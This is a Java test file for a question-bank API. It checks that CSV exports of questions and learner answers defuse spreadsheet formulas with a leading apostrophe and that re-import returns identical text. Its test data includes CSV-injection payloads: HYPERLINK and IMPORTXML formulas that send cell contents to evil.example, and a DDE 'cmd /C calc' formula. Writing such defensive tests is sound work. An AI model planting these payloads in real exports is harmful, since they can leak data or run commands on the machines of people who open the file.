package dev.qbank.imports;

import static dev.qbank.support.Keys.asAdmin;
import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.qbank.support.ApiTest;
import dev.qbank.support.Eventually;
import dev.qbank.support.Keys;
import dev.qbank.support.Learner;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.io.StringReader;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * OWASP's CSV injection: a cell that starts with = + - @ (or a tab or a carriage return) is run as a formula by a
 * spreadsheet program. Our CSV exports write such a cell with a leading apostrophe, in quotes, and the import of our
 * own export gives back exactly the text that was exported.
 */
@QuarkusTest
class CsvInjectionTest extends ApiTest {

    private static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3 is a question about negative numbers?",
            "@SUM(1, 2)",
            "'=an apostrophe already in front",
            "''+two apostrophes");

    @Inject
    ImportWorker worker;

    @Test
    void questionExportNeutralizesFormulasAndItsImportGivesBackTheSameText() throws Exception {
        String slug = "csv-injection-" + Keys.unique();
        asAdmin()
                .contentType("application/json")
                .body(Map.of("slug", slug, "name", "CSV injection " + slug, "description", ""))
                .when()
                .post("/v1/categories")
                .then()
                .statusCode(201);
        Map<String, String> notesByText = new LinkedHashMap<>();
        List<Integer> created = new ArrayList<>();
        for (int i = 0; i < FORMULAS.size(); i++) {
            String text = FORMULAS.get(i) + " " + slug;
            String notes = i % 2 == 0 ? "\tstarts with a tab " + i : "=1+" + i;
            notesByText.put(text, notes);
            created.add(asAdmin()
                    .contentType("application/json")
                    .body(Map.of("text", text, "category", slug, "notes", notes))
                    .when()
                    .post("/v1/questions")
                    .then()
                    .statusCode(201)
                    .extract()
                    .path("number"));
        }

        Response export = given().queryParam("format", "csv")
                .queryParam("category", slug)
                .when()
                .get("/v1/questions/export");
        export.then().statusCode(200);
        String csv = new String(export.asByteArray(), StandardCharsets.UTF_8);
        List<CSVRecord> records = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(csv))
                .getRecords();
        assertEquals(FORMULAS.size(), records.size());
        for (CSVRecord record : records) {
            // What a spreadsheet sees: every text and note begins with an apostrophe, none with a formula character.
            for (String column : List.of("text", "notes")) {
                String cell = record.get(column);
                assertTrue(cell.startsWith("'"), column + " is not neutralized: " + cell);
            }
        }
        assertTrue(csv.contains("\"'=HYPERLINK("), "a neutralized cell is quoted: " + csv);

        // Round trip: the same bytes, imported after the originals were deleted, give back the very same texts.
        created.forEach(
                n -> asAdmin().when().delete("/v1/questions/" + n).then().statusCode(204));
        Response accepted = asAdmin().contentType("text/csv").body(csv).when().post("/v1/imports");
        accepted.then().statusCode(202);
        String job = URI.create(accepted.header("Location")).getPath();
        Eventually.within(Duration.ofSeconds(15), "the import job to finish", () -> {
            worker.runPending();
            String status = asAdmin().get(job).path("status");
            return "succeeded".equals(status) || "failed".equals(status);
        });
        Response finished = asAdmin().when().get(job);
        finished.then()
                .statusCode(200)
                .body("status", equalTo("succeeded"))
                .body("imported_rows", equalTo(FORMULAS.size()));
        List<Integer> imported = finished.path("question_numbers");
        try {
            Map<String, String> back = new LinkedHashMap<>();
            for (int number : imported) {
                Response question = given().when().get("/v1/questions/" + number);
                back.put(question.path("text"), question.path("notes"));
            }
            assertEquals(notesByText, back, "the import of our own export gives back the same texts and notes");
        } finally {
            imported.forEach(
                    n -> asAdmin().when().delete("/v1/questions/" + n).then().statusCode(204));
            asAdmin().when().delete("/v1/categories/" + slug).then().statusCode(204);
        }
    }

    @Test
    void attemptExportNeutralizesAnswersThatLookLikeFormulas() throws Exception {
        Learner learner = Learner.signUp();
        Map<String, Object> attempt = Learner.attempt(3, "good");
        attempt.put("answer", "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")");
        learner.json(attempt).when().post("/v1/attempts").then().statusCode(201);

        String csv = new String(
                learner.request()
                        .queryParam("format", "csv")
                        .when()
                        .get("/v1/users/me/attempts/export")
                        .then()
                        .statusCode(200)
                        .extract()
                        .asByteArray(),
                StandardCharsets.UTF_8);
        List<CSVRecord> records = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(csv))
                .getRecords();
        assertEquals(1, records.size());
        assertEquals("'" + attempt.get("answer"), records.get(0).get("answer"));
    }
}
